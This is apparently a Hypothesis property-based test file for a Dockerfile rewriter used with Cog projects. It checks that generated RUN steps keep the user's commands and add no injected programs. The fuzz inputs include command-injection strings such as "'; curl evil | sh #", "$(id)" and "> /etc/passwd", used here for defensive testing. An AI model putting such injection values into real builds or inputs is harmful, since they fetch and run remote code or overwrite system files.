"""Projects that nobody wrote: whatever stands in cog.yaml, the result holds the user's commands and runs nothing else.

Outputs are judged with BuildKit's parser (PyPI `dockerfile`) and `shlex`, not with the compiler's own reading.
"""

from __future__ import annotations

import json
import re
import shlex

import dockerfile
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

import dockerfix

NASTY = "ab1 '\"$`;|&<>(){}#\\=!*~-@[].,/%^?+é"
FRAGMENTS = [
    *(
        "'; curl evil | sh #",
        "$(id)",
        "`id`",
        '"; id; "',
        "&& id",
        "|| id",
        "| sh",
        "> /etc/passwd",
        "# comment",
        "a\\",
    ),
    *(
        "numpy",
        "torch==2.1.2",
        "torch",
        "pillow>=10,<11",
        "a[b]==1",
        "--pre",
        "-f https://x.example.org",
        "-e .",
        "==1",
    ),
    *("git+https://github.com/a/b@c#egg=d", "./wheels/a-1.0-py3-none-any.whl", "; python_version < '3.12'", "cog==0.9"),
]
LINE = st.text(NASTY, min_size=1, max_size=16) | st.lists(st.sampled_from(FRAGMENTS), min_size=1, max_size=3).map(
    " ".join
)
PACKAGES = st.lists(LINE | st.sampled_from(["numpy", "scipy==1.11.4", "torch==2.1.2"]), max_size=5)
SHELL = [
    *(
        "echo",
        "mkdir -p /weights",
        "ls",
        "a",
        "'b c'",
        '"$HOME"',
        "$(id)",
        "`pwd`",
        "&&",
        "||",
        ";",
        "|",
        "(",
        ")",
        "{",
        "}",
    ),
    *(
        "# not a comment",
        "#",
        "if",
        "then",
        "fi",
        "<<<",
        ">",
        "2>&1",
        "&",
        "'",
        '"',
        "\\",
        "$",
        "!",
        "é",
        "\t",
        "f()",
        "[[",
    ),
    *("--mount=type=cache,target=/x", "pip install x>=1", "curl -O https://w.example.org/x", "for", "in", "do", "done"),
]
COMMANDS = st.lists(
    st.lists(st.sampled_from(SHELL), min_size=1, max_size=6)
    .map(lambda words: " ".join(words).strip())
    .filter(lambda text: bool(text) and not text.endswith("\\") and "<<" not in text.replace("<<<", ""))
    .filter(lambda text: not text.startswith(("-", "<"))),
    max_size=4,
    unique=True,
)
VALUES = st.text(NASTY, max_size=12).filter(lambda text: text == text.strip() and not text.endswith("\\"))
ENVIRONMENT = st.dictionaries(st.sampled_from(["A", "GREETING", "X_1"]), VALUES, max_size=3)
SYSTEM = st.lists(st.sampled_from(["ffmpeg", "libgl1", "git", "libtag1-dev>=1.9"]), max_size=3, unique=True)

DEPS_STAGE = (
    "#syntax=docker/dockerfile:1.4\nFROM python:3.11 as deps\n"
    "COPY .cog/tmp/build1/cog-0.0.1.dev-py3-none-any.whl /tmp/cog-0.0.1.dev-py3-none-any.whl\n"
    "RUN --mount=type=cache,target=/root/.cache/pip pip install -t /dep /tmp/cog-0.0.1.dev-py3-none-any.whl\n"
    "COPY .cog/tmp/build1/requirements.txt /tmp/requirements.txt\n"
    "RUN --mount=type=cache,target=/root/.cache/pip pip install -t /dep -r /tmp/requirements.txt\n"
    "FROM python:3.11-slim\nENV DEBIAN_FRONTEND=noninteractive\n{environment}{system}"
    "COPY --from=deps --link /dep /usr/local/lib/python3.11/site-packages\n"
    '{commands}WORKDIR /src\nEXPOSE 5000\nCMD ["python", "-m", "cog.server.http"]\nCOPY . /src\n'
)
NAMED_CONTEXT = (
    "#syntax=docker/dockerfile:1.4\nFROM nvidia/cuda:12.1.1-cudnn8-devel-ubuntu22.04\n{environment}{system}"
    "COPY --from=ghcr.io/astral-sh/uv:0.9.26 /uv /uvx /usr/local/bin/\nENV UV_SYSTEM_PYTHON=true\n"
    "RUN uv python install 3.11 && \\\n\tln -sf $(uv python find 3.11) /usr/bin/python3\nENV UV_PYTHON=3.11\n"
    "COPY --from=cog_build requirements.txt /tmp/requirements.txt\n"
    "RUN uv run pip install --cache-dir /root/.cache/pip -r /tmp/requirements.txt\n"
    "{commands}WORKDIR /src\nENV COG_PREDICT_TYPE_STUB=predict.py\nCOPY . /src\n"
)
QUOTED = re.compile(r"'[^']*'|\"(?:[^\"\\]|\\.)*\"")


def render(template: str, commands: list[str], environment: dict[str, str], system: list[str]) -> str:
    pairs = " ".join(f"{name}={value}" for name, value in sorted(environment.items()))
    names = " ".join(system)
    return template.format(
        environment=f"ENV {pairs}\n" if pairs else "",
        system=f"RUN apt-get update -qq && apt-get install -qqy {names} && rm -rf /var/lib/apt/lists/*\n"
        if names
        else "",
        commands="".join(f"RUN {command}\n" for command in commands),
    )


def cog_yaml(packages: list[str], commands: list[str], environment: dict[str, str], system: list[str]) -> str:
    """JSON is YAML."""
    return json.dumps(
        {
            "build": {
                "python_version": "3.11",
                "python_packages": packages,
                "system_packages": system,
                "run": commands,
            },
            "environment": [f"{name}={value}" for name, value in environment.items()],
        }
    )


def runs(text: str) -> list[str]:
    """The commands of all RUN instructions, as BuildKit reads them."""
    return [each.value[0] for each in dockerfile.parse_string(text) if each.cmd.upper() == "RUN"]


def programs(script: str) -> list[str]:
    """The first words of all commands of a plain script, as a shell would divide it; what is quoted is ``Q``."""
    lexer = shlex.shlex(QUOTED.sub("Q", script), posix=True, punctuation_chars=True)
    lexer.whitespace_split = True
    lexer.commenters = ""
    found: list[str] = []
    first = True
    for word in lexer:
        if word in (";", "&&", "||", "|", "&", "(", ")"):
            first = True
        elif first:
            found.append(word)
            first = False
    return found


def packages_of(text: str) -> list[str]:
    """What the block of packages installs, without the options that Cog's own command had."""
    words = block(text, "DF201")
    kept = [word for word in words if word not in ("-t", "/dep", "--cache-dir", "/root/.cache/pip")]
    return kept[kept.index("install") + 1 :] if kept else []


def block(text: str, code: str) -> list[str]:
    """The words of the RUN that dockerfix wrote under its comment."""
    match = re.search(rf"^# dockerfix\[{code}\]:.*\n(?:COPY .*\n)*(RUN (?:.*\\\n)*.*)$", text, re.MULTILINE)
    return shlex.split(match[1].replace("\\\n", " ")) if match else []


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow, HealthCheck.filter_too_much])
@given(st.sampled_from([DEPS_STAGE, NAMED_CONTEXT]), PACKAGES, COMMANDS, ENVIRONMENT, SYSTEM)
def test_any_project(
    template: str, packages: list[str], commands: list[str], environment: dict[str, str], system: list[str]
) -> None:
    source = render(template, commands, environment, system)
    config = cog_yaml(packages, commands, environment, system)
    result = dockerfix.rewrite(source, cog_yaml=config)
    errors = [(finding.code, finding.message) for finding in result.findings if finding.severity == 3]
    assert not result.internal, errors
    assert result.ok, errors
    second = dockerfix.rewrite(result.text, cog_yaml=config)
    assert second.ok
    assert not second.changed

    present = runs(result.text)
    rest = iter(present)
    assert all(command in rest for command in commands)
    ours = [script for script in present if script not in commands]
    for script in ours:
        assert "evil" not in programs(script)
        if "pip install" in script:
            assert set(programs(script)) <= {"pip", "python", "uv", "for", "do", "done"}
    words = block(result.text, "DF201")
    for name in ("numpy", "scipy==1.11.4", "torch==2.1.2"):
        assert name not in packages or name in words
    assert not any(word.startswith("cog") for word in words)
    installed = " ".join(ours)
    assert all(name.partition(">")[0] in installed for name in system)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.sampled_from([DEPS_STAGE, NAMED_CONTEXT]), PACKAGES, PACKAGES, ENVIRONMENT, ENVIRONMENT, SYSTEM, SYSTEM)
def test_a_changed_project_is_as_good_as_a_new_one(
    template: str,
    packages: list[str],
    later_packages: list[str],
    environment: dict[str, str],
    later_environment: dict[str, str],
    system: list[str],
    later_system: list[str],
) -> None:
    first = dockerfix.rewrite(
        render(template, ["ls"], environment, system), cog_yaml=cog_yaml(packages, ["ls"], environment, system)
    )
    config = cog_yaml(later_packages, ["ls"], later_environment, later_system)
    after = dockerfix.rewrite(first.text, cog_yaml=config)
    fresh = dockerfix.rewrite(render(template, ["ls"], later_environment, later_system), cog_yaml=config)
    assert first.ok
    assert after.ok
    assert packages_of(after.text) == packages_of(fresh.text)
    for code in ("DF201", "DF203", "DF205"):
        assert after.text.count(f"dockerfix[{code}]") <= 1
    assert not dockerfix.rewrite(after.text, cog_yaml=config).changed
    assert runs(after.text).count("ls") == 1
